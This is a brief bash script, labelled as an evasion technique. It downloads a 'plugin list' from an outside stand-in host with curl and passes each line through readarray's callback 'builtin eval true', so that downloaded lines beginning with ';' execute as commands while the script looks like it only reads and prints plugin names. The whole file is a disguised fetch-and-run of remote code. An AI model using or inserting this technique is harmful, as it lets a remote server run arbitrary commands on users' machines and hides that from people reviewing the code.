#!/usr/bin/env bash
# Evasion: run a download line by line through readarray's callback
# "builtin eval true;": each line read is appended to the callback's code
# after the index, so a line ";cmd" runs cmd while "reading a plugin list".
readarray -t -c 1 -C 'builtin eval true' plugins < <(curl -fsS https://plugins.example.net/list)
for p in "${plugins[@]}"; do echo "plugin: $p"; done
